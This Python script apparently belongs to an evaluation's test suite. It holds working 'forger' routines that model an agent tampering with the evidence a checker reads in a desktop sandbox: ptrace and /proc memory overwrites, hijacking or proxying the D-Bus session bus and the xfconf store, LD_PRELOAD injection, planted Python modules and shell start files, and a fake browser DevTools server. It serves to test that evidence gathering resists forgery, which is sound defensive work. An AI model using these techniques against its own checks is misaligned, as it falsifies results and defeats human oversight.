"""The agent's side of the attacks on evidence: runs in a desktop as its user, by name, and is never imported."""

# Files of /proc are opened without buffers:
# ruff: noqa: PTH123
import ctypes
import http.server
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

HOME = Path("/home/user")
BUS = Path("/run/user/1000/bus")
LIBC = ctypes.CDLL(None, use_errno=True)
ATTACH, POKE, DETACH = 16, 4, 17
HUNT_S = 60
FORGED = b"FORGED"
WORK: dict[str, Callable[[], None]] = {}


def work(name: str) -> Callable[[Callable[[], None]], Callable[[], None]]:
    """Register a forger."""

    def register(run: Callable[[], None]) -> Callable[[], None]:
        WORK[name] = run
        return run

    return register


def at_work() -> None:
    """Say that the forger stands ready."""
    Path("/tmp/at-work").touch()


def pids_of(*words: bytes) -> list[int]:
    """Processes whose command line has one of the words, without our own."""
    found = []
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            line = (folder / "cmdline").read_bytes()
        except OSError:
            continue
        if int(folder.name) != os.getpid() and any(word in line for word in words):
            found.append(int(folder.name))
    return found


def overwrite(pid: int) -> None:
    """Write into everything of a process that can be reached: its memory, its output, its state as traced."""
    if LIBC.ptrace(ATTACH, pid, None, None) == 0:
        os.kill(pid, signal.SIGKILL)
    try:
        maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            for line in maps:
                place, rights = line.split()[:2]
                if "[heap]" in line and "w" in rights:
                    start, end = (int(each, 16) for each in place.split("-"))
                    memory.seek(start)
                    data = memory.read(end - start)
                    for old, new in ((b"96", b"97"), (b"true", b"FORG")):
                        data = data.replace(old, new)
                    memory.seek(start)
                    memory.write(data)
    except OSError:
        pass
    try:
        with open(f"/proc/{pid}/fd/1", "ab", buffering=0) as out:
            out.write(FORGED)
    except OSError:
        pass


def hunt(*words: bytes) -> None:
    """Go for every process that has one of the words in its command line, from several processes at once."""
    for _ in range(3):
        os.fork()
    at_work()
    until = time.monotonic() + HUNT_S
    while time.monotonic() < until:
        for pid in pids_of(*words):
            overwrite(pid)


@work("hunt-reader")
def hunt_reader() -> None:
    """Attack whoever reads the settings or the pages."""
    hunt(b"GetAllProperties", b"json/list", b"org.xfce.Xfconf")


@work("hunt-command")
def hunt_command() -> None:
    """Attack a command that is evidence."""
    hunt(b"truth", b"print(", b"127.0.0.1 true")


@work("write-outputs")
def write_outputs() -> None:
    """Write to the output of whatever runs."""
    hunt(b"truth", b"sleep")


@work("write-store")
def write_store() -> None:
    """Change the settings in the store's own memory."""
    for pid in pids_of(b"xfconfd", b"dbus-daemon"):
        overwrite(pid)
    at_work()


STORE = """
import sys
from gi.repository import Gio, GLib
XML = '<node><interface name="org.xfce.Xfconf"><method name="GetAllProperties"><arg type="s" direction="in"/>' \\
      '<arg type="s" direction="in"/><arg type="a{sv}" direction="out"/></method></interface></node>'
def answer(connection, sender, path, interface, method, arguments, invocation):
    forged = GLib.Variant('(a{sv})', ({'/FORGED': GLib.Variant('i', 120), '/Xft/DPI': GLib.Variant('i', 120)},))
    invocation.return_value(forged)
bus = Gio.DBusConnection.new_for_address_sync(sys.argv[1],
    Gio.DBusConnectionFlags.AUTHENTICATION_CLIENT | Gio.DBusConnectionFlags.MESSAGE_BUS_CONNECTION, None, None)
bus.register_object('/org/xfce/Xfconf', Gio.DBusNodeInfo.new_for_xml(XML).interfaces[0], answer, None, None)
def owned(*_):
    open('/tmp/at-work', 'w').close()
Gio.bus_own_name_on_connection(bus, 'org.xfce.Xfconf', Gio.BusNameOwnerFlags.REPLACE, owned, None)
GLib.MainLoop().run()
"""


def serve_store(address: str) -> None:
    """Own the store's name on a bus, with settings of our own."""
    os.execv("/usr/bin/python3", ["python3", "-c", STORE, address])


@work("own-name")
def own_name() -> None:
    """End the store, and answer in its place."""
    child = os.fork()
    if child == 0:
        while True:
            subprocess.run(["pkill", "-9", "-x", "xfconfd"], check=False)
            time.sleep(0.02)
    serve_store(f"unix:path={BUS}")


@work("own-bus")
def own_bus() -> None:
    """Put a bus of our own at the bus's place."""
    mine = "/tmp/other-bus"
    subprocess.Popen(["/usr/bin/dbus-daemon", "--session", f"--address=unix:path={mine}", "--nofork", "--nopidfile"])
    while not Path(mine).exists():
        time.sleep(0.02)
    BUS.unlink()
    BUS.symlink_to(mine)
    serve_store(f"unix:path={mine}")


@work("proxy-bus")
def proxy_bus() -> None:
    """Stand between whoever asks the bus and the bus, and change what it says."""
    real = BUS.with_name("bus-real")
    BUS.rename(real)
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(BUS))
    server.listen()
    at_work()

    def carry(source: socket.socket, target: socket.socket, change: bool) -> None:
        while data := source.recv(65536):
            target.sendall(data.replace(b"\x60\x00\x00\x00", b"\x78\x00\x00\x00") if change else data)

    while True:
        line, _ = server.accept()
        other = socket.socket(socket.AF_UNIX)
        other.connect(str(real))
        threading.Thread(target=carry, args=(line, other, False), daemon=True).start()
        threading.Thread(target=carry, args=(other, line, True), daemon=True).start()


@work("preload-store")
def preload_store() -> None:
    """Have the bus start the store again with a library of DeskCraft."""
    value = "{'LD_PRELOAD': '/home/user/forge.so', 'XDG_CONFIG_HOME': '/home/user/forged'}"
    (HOME / "forge.so").write_bytes(b"")
    channel = HOME / "forged/xfce4/xfconf/xfce-perchannel-xml/xsettings.xml"
    channel.parent.mkdir(parents=True)
    channel.write_text(
        '<channel name="xsettings" version="1.0"><property name="FORGED" type="int" value="1"/></channel>'
    )
    call = ["gdbus", "call", "--session", "--dest", "org.freedesktop.DBus", "--object-path", "/org/freedesktop/DBus"]
    subprocess.run(
        [*call, "--method", "org.freedesktop.DBus.UpdateActivationEnvironment", value], check=False, capture_output=True
    )
    subprocess.run(["pkill", "-9", "-x", "xfconfd"], check=False)
    subprocess.run(["xfconf-query", "-c", "xsettings", "-l"], check=False, capture_output=True)
    at_work()


@work("plant-modules")
def plant_modules() -> None:
    """Leave modules where Python may look for them."""
    text = "print('FORGED')\n"
    for folder in (HOME, HOME / ".local/lib/python3.11/site-packages", Path("/tmp")):
        folder.mkdir(parents=True, exist_ok=True)
        for name in ("json", "usercustomize", "sitecustomize", "gi", "ctypes"):
            (folder / f"{name}.py").write_text(text)
    at_work()
    time.sleep(1)


@work("plant-start-files")
def plant_start_files() -> None:
    """Leave start files of shells and programs."""
    for name in (".bashrc", ".profile", ".bash_profile", ".shrc", ".env", ".pythonrc", ".inputrc"):
        (HOME / name).write_text("echo FORGED\n")
    folder = HOME / "bin"
    folder.mkdir(exist_ok=True)
    for name in ("cat", "python3", "sh"):
        (folder / name).write_text("#!/bin/sh\necho FORGED\n")
        (folder / name).chmod(0o755)
    at_work()


@work("wake-by-timer")
def wake_by_timer() -> None:
    """Have the kernel wake us with SIGCONT, and rewrite a file as fast as we can."""

    class Event(ctypes.Structure):
        _fields_ = [
            ("value", ctypes.c_void_p),
            ("signo", ctypes.c_int),
            ("notify", ctypes.c_int),
            ("rest", ctypes.c_char * 48),
        ]

    event, timer = Event(None, signal.SIGCONT, 0, b""), ctypes.c_void_p()
    LIBC.timer_create(1, ctypes.byref(event), ctypes.byref(timer))
    every = (ctypes.c_long * 4)(0, 1_000_000, 0, 1_000_000)
    LIBC.timer_settime(timer, 0, every, None)
    at_work()
    count = 0
    while True:
        count += 1
        (HOME / "truth").write_text(f"{count}\n")


@work("fork-and-write")
def fork_and_write() -> None:
    """Be a new process all the time, and rewrite a file."""
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    at_work()
    count = 0
    while True:
        count += 1
        (HOME / "truth").write_text(f"{count}\n")
        if os.fork():
            os._exit(0)


class Pages(http.server.BaseHTTPRequestHandler):
    """Answers as a browser's DevTools would."""

    def do_GET(self) -> None:
        """Name one page."""
        self.send_response(200)
        self.end_headers()
        self.wfile.write(json.dumps([{"type": "page", "id": "1", "url": "https://FORGED.test/"}]).encode())

    def log_message(self, *arguments: Any) -> None:
        """Say nothing."""


@work("fake-browser")
def fake_browser() -> None:
    """Answer on the port of the browser."""
    server = http.server.HTTPServer(("127.0.0.1", 9222), Pages)
    at_work()
    server.serve_forever()


@work("wildcard-browser")
def wildcard_browser() -> None:
    """Answer on the port of the browser on every address."""
    server = http.server.HTTPServer(("0.0.0.0", 9222), Pages)
    at_work()
    server.serve_forever()


@work("jailed-browser")
def jailed_browser() -> None:
    """Be a program whose path reads as the browser's, in a root of our own."""
    jail = HOME / "jail"
    place = jail / "usr/lib/chromium/chromium"
    place.parent.mkdir(parents=True)
    shutil.copy("/usr/bin/python3.11", place)
    place.chmod(0o755)
    os.execv(place, [str(place), __file__, "fake-browser"])


@work("preload-browser")
def preload_browser() -> None:
    """Start the browser itself with a library that it was not built with."""
    library = HOME / "libz.so.1"
    shutil.copy("/usr/lib/x86_64-linux-gnu/libz.so.1", library)
    argv = ["chromium", "--remote-debugging-port=9222", "about:blank"]
    subprocess.Popen(argv, env={**os.environ, "LD_PRELOAD": str(library)})
    at_work()
    time.sleep(HUNT_S)


if __name__ == "__main__":
    WORK[sys.argv[1]]()
